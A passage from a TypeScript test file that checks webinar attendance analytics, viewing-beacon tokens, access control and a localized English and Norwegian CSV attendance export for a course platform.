    const [course] = await t.db.select().from(schema.courses).where(eq(schema.courses.id, id));
    const at = (minutes: number) => new Date(course!.start_at.getTime() + minutes * MINUTE);
    await t.db.insert(schema.courseViewRecords).values(
      [0, 1, 2, 3, 4].map((i) => ({ course_id: id, user_id: me.user.id, entered_at: at(i), left_at: at(30 + 10 + i) })),
    );
    const res = await t.call(ep.analytics, { as: owner, params: { id } });
    expect(res.parsed.data).toMatchObject({ attended: 1, live_minutes: 30, replay_minutes: 14, total_minutes: 44, average_minutes: 44, share_to_end: 1 });
    const csv = await t.http.get(`/api/my/courses/${id}/attendance.csv`).set('Authorization', `Bearer ${owner.accessToken}`).set('X-localization', 'en');
    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines.slice(1).map((l) => l.split(',').slice(-2).join(','))).toEqual(['30,14']);
  });

  it('counts "watched to the end" as the course log counts a completed event (its certificate), not by the last minute', async () => {
    const owner = await t.session();
    const [d, e, f] = await Promise.all([t.session(), t.session(), t.session()]);
    // A 60-minute webinar that started 3 hours ago; d and e hold seats, f has none.
    const id = await watchable({ title: `Slutten ${token}`, startOffset: -3 * HOUR, duration: 60, userId: owner.user.id }, d!.user.id, e!.user.id);
    const [course] = await t.db.select().from(schema.courses).where(eq(schema.courses.id, id));
    const at = (minutes: number) => new Date(course!.start_at.getTime() + minutes * MINUTE);
    await t.db.insert(schema.courseViewRecords).values([
      // d: 48 of 60 minutes live (80 %), gone before the last minute: completed.
      { course_id: id, user_id: d!.user.id, entered_at: at(0), left_at: at(48) },
      // e: only the last five minutes: there at the end, but not completed.
      { course_id: id, user_id: e!.user.id, entered_at: at(55), left_at: at(60) },
      // f: no seat, 50 minutes of the recording after the end: completed (the replay counts).
      { course_id: id, user_id: f!.user.id, entered_at: at(70), left_at: at(120) },
    ]);

    const res = await t.call(ep.analytics, { as: owner, params: { id } });
    expect(res.parsed.data).toMatchObject({ attended: 3, share_to_end: 0.67 });
    // The same people the course log gives a certificate.
    const available = await Promise.all(
      [d!, e!, f!].map(async (who) => {
        const log = await t.call(courseRecordEndpoints.log, { as: who, query: { page: 1, per_page: 10 } });
        return log.parsed.data.find((entry) => entry.course.id === id)?.certificate_available;
      }),
    );
    expect(available).toEqual([true, false, true]);
  });

  it('opens a viewing (201, id, token) and moves its end with each beacon; bad tokens are refused', async () => {
    const owner = await t.session();
    const me = await t.session();
    const id = await watchable({ title: `Direkte ${token}`, startOffset: -5 * MINUTE, userId: owner.user.id }, me.user.id);
    const other = await watchable({ title: `Annen ${token}`, startOffset: -5 * MINUTE, userId: owner.user.id }, me.user.id);
    const res = await t.call(ep.enteredOn, { as: me, params: { id } });
    expect(res.status).toBe(201);
    const { id: recordId, token: viewToken, expires_in } = res.parsed.data;
    expect(expires_in).toBe(4 * 3600);
    const before = (await t.db.select().from(schema.courseViewRecords).where(eq(schema.courseViewRecords.id, recordId)))[0]!;
    expect(before).toMatchObject({ course_id: id, user_id: me.user.id });
    await new Promise((r) => setTimeout(r, 20));
    // The beacon carries no bearer header.
    const beacon = await t.call(ep.leftWatching, { as: null, params: { id }, body: { token: viewToken } });
    expect(beacon.status).toBe(204);
    const after = (await t.db.select().from(schema.courseViewRecords).where(eq(schema.courseViewRecords.id, recordId)))[0]!;
    expect(after.left_at!.getTime()).toBeGreaterThan(before.left_at!.getTime());

    expect((await t.call(ep.leftWatching, { as: null, params: { id: other }, body: { token: viewToken } })).status).toBe(401);
    expect((await t.call(ep.leftWatching, { as: null, params: { id }, body: { token: `${viewToken.slice(0, -2)}xx` } })).status).toBe(401);
    expect((await t.call(ep.leftWatching, { as: null, params: { id }, body: invalid({}) })).status).toBe(422);
    expect((await t.call(ep.enteredOn, { as: null, params: { id } })).status).toBe(401);
    const draft = await insertCourse({ title: `Kladd ${token}`, startOffset: DAY, userId: owner.user.id, status: 'draft' });
    expect((await t.call(ep.enteredOn, { as: me, params: { id: draft } })).status).toBe(404);
    expect((await t.call(ep.enteredOn, { as: me, params: { id: 999999999 } })).status).toBe(404);
  });

  it('counts sign-ups, no-shows, live and replay minutes, the end, and concurrent viewers; exports CSV', async () => {
    const owner = await t.session();
    const stranger = await t.session();
    const [a, b, c] = await Promise.all([t.session(), t.session(), t.session()]);
    // A 60-minute event that started 3 hours ago.
    const id = await insertCourse({ title: `Statistikk ${token}`, startOffset: -3 * HOUR, duration: 60, userId: owner.user.id, max: 3 });
    const [course] = await t.db.select().from(schema.courses).where(eq(schema.courses.id, id));
    const start = course!.start_at.getTime();
    const at = (minutes: number) => new Date(start + minutes * MINUTE);
    await t.db.insert(schema.courseSubscriptions).values([
      { course_id: id, user_id: a!.user.id },
      { course_id: id, user_id: b!.user.id },
      { course_id: id, user_id: c!.user.id },
    ]);
    await t.db.update(schema.courses).set({ attendees_count: 3 }).where(eq(schema.courses.id, id));
    await t.db.insert(schema.courseViewRecords).values([
      // a: live the whole hour, in two viewings (a reload at minute 30).
      { course_id: id, user_id: a!.user.id, entered_at: at(0), left_at: at(30) },
      { course_id: id, user_id: a!.user.id, entered_at: at(30), left_at: at(60) },
      // b: live minutes 10-20, then 15 minutes of replay after the end.
      { course_id: id, user_id: b!.user.id, entered_at: at(10), left_at: at(20) },
      { course_id: id, user_id: b!.user.id, entered_at: at(90), left_at: at(105) },
      // c signed up and never came.
    ]);
    const res = await t.call(ep.analytics, { as: owner, params: { id } });
    expect(res.parsed.data).toMatchObject({
      sign_ups: 3,
      waiting: 0,
      attended: 2,
      no_shows: 1,
      live_minutes: 70,
      replay_minutes: 15,
      total_minutes: 85,
      average_minutes: 42.5,
      share_to_end: 0.5,
      peak_concurrent: 2,
    });
    const series = res.parsed.data.concurrent;
    expect(series).toHaveLength(60);
    expect(series[0]).toEqual({ minute: 0, viewers: 1 });
    expect(series[15]).toEqual({ minute: 15, viewers: 2 });
    expect(series[45]).toEqual({ minute: 45, viewers: 1 });

    const csv = await t.http.get(`/api/my/courses/${id}/attendance.csv`).set('Authorization', `Bearer ${owner.accessToken}`).set('X-localization', 'en');
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toContain('text/csv');
    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines[0]).toBe('Name,Profession,Minutes live,Minutes replay');
    expect(lines).toHaveLength(4);
    expect(lines.some((l) => l.endsWith(',60,0'))).toBe(true);
    expect(lines.some((l) => l.endsWith(',10,15'))).toBe(true);
    expect(lines.some((l) => l.endsWith(',0,0'))).toBe(true);
    // Norwegian: semicolons and the byte-order mark, for Excel set to Norwegian.
    const no = await t.http.get(`/api/my/courses/${id}/attendance.csv`).set('Authorization', `Bearer ${owner.accessToken}`).set('X-localization', 'no');
    expect(no.text.startsWith('\uFEFF')).toBe(true);
    const noLines = no.text.replace(/^\uFEFF/, '').trim().split('\n');
    expect(noLines[0]).toBe('Navn;Yrke;Minutter direkte;Minutter opptak');
    expect(noLines.some((l) => l.endsWith(';60;0'))).toBe(true);
    expect(noLines.every((l) => !/;doctor;/.test(l))).toBe(true);

    // Only the organiser sees them.
    expect((await t.call(ep.analytics, { as: stranger, params: { id } })).status).toBe(404);
    expect((await t.http.get(`/api/my/courses/${id}/attendance.csv`).set('Authorization', `Bearer ${stranger.accessToken}`)).status).toBe(404);
    expect((await t.call(ep.analytics, { as: null, params: { id } })).status).toBe(401);
    expect((await t.call(ep.analytics, { as: owner, params: { id: 999999999 } })).status).toBe(404);

    // Before the end, nobody signed up is a no-show yet.
    const upcoming = await insertCourse({ title: `Kommer ${token}`, startOffset: DAY, userId: owner.user.id });
    await t.db.insert(schema.courseSubscriptions).values({ course_id: upcoming, user_id: c!.user.id });
    expect((await t.call(ep.analytics, { as: owner, params: { id: upcoming } })).parsed.data).toMatchObject({ sign_ups: 1, no_shows: 0, attended: 0 });
  });
});
